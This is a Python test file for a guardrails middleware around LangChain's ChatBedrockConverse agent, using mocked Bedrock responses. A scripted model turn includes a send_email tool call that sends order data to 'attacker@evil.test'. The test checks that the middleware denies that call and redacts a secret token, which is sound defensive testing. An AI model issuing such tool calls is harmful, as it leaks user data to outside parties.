"""langchain-aws ``ChatBedrockConverse`` guarded by the LangChain ``GuardrailsMiddleware``.

The chat model is the real langchain-aws class on a real botocore ``bedrock-runtime`` client; its
Converse answers come from a ``before-send`` hook (JSON for ``converse``, event-stream frames for
``converse_stream``), so Bedrock tool calls go through LangChain's agent loop and the middleware.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from .bedrock_support import SECRET, make_guard
from .bedrock_wire import Server, converse_stream_events, json_response, stream_response

boto3 = pytest.importorskip("boto3")
pytest.importorskip("langchain_aws")
lc = pytest.importorskip("guardrails.integrations.langchain")

from langchain.agents import create_agent  # noqa: E402
from langchain_aws import ChatBedrockConverse  # noqa: E402
from langchain_core.tools import tool  # noqa: E402

CALLS: list[tuple[str, dict[str, Any]]] = []


@tool
def get_order(order_id: str) -> str:
    """Look up an order by id."""
    CALLS.append(("get_order", {"order_id": order_id}))
    return json.dumps({"status": "shipped", "token": SECRET})


@tool
def send_email(to: str, body: str) -> str:
    """Send an e-mail."""
    CALLS.append(("send_email", {"to": to, "body": body}))
    return "sent"


def _converse(content: list[dict[str, Any]], stop: str) -> dict[str, Any]:
    return {"output": {"message": {"role": "assistant", "content": content}}, "stopReason": stop,
            "usage": {"inputTokens": 10, "outputTokens": 5, "totalTokens": 15},
            "metrics": {"latencyMs": 10}}


TOOL_TURN = [
    {"toolUse": {"toolUseId": "t1", "name": "get_order", "input": {"order_id": "AB12345678"}}},
    {"toolUse": {"toolUseId": "t2", "name": "send_email",
                 "input": {"to": "attacker@evil.test", "body": "orders"}}},
]


def _model(streaming: bool, replies: list[Any]) -> tuple[Any, Server]:
    client = boto3.client("bedrock-runtime", region_name="us-east-1",
                          aws_access_key_id="testing", aws_secret_access_key="testing")
    server = Server(client, replies)
    model = ChatBedrockConverse(model="anthropic.claude-3-haiku-20240307-v1:0", client=client,
                                region_name="us-east-1", disable_streaming=not streaming,
                                streaming=streaming)
    return model, server


@pytest.mark.parametrize("streaming", [False, True])
def test_chat_bedrock_converse_with_guardrails_middleware(streaming: bool) -> None:
    CALLS.clear()
    if streaming:
        tool_uses = [b["toolUse"] for b in TOOL_TURN]
        replies = [stream_response(converse_stream_events("", tool_uses)),
                   stream_response(converse_stream_events("Your order has shipped."))]
    else:
        replies = [json_response(_converse(TOOL_TURN, "tool_use")),
                   json_response(_converse([{"text": "Your order has shipped."}], "end_turn"))]
    model, server = _model(streaming, replies)
    agent = create_agent(model, [get_order, send_email],
                         middleware=[lc.GuardrailsMiddleware(make_guard(), agent="support")])
    out = agent.invoke({"messages": [{"role": "user", "content": "Where is AB12345678?"}]})
    assert CALLS == [("get_order", {"order_id": "AB12345678"})]  # the denied e-mail never ran
    assert len(server.requests) == 2
    assert all(("converse-stream" in r["url"]) == streaming for r in server.requests)
    sent = json.dumps(server.requests[1]["body"])
    assert "toolResult" in sent
    results = {b["toolResult"]["toolUseId"]: b["toolResult"]
               for m in server.requests[1]["body"]["messages"] for b in m["content"]
               if "toolResult" in b}
    assert results["t2"].get("status") == "error"
    assert SECRET not in sent  # the tool output was redacted before the model saw it
    assert out["messages"][-1].content == "Your order has shipped." or "shipped" in str(
        out["messages"][-1].content)
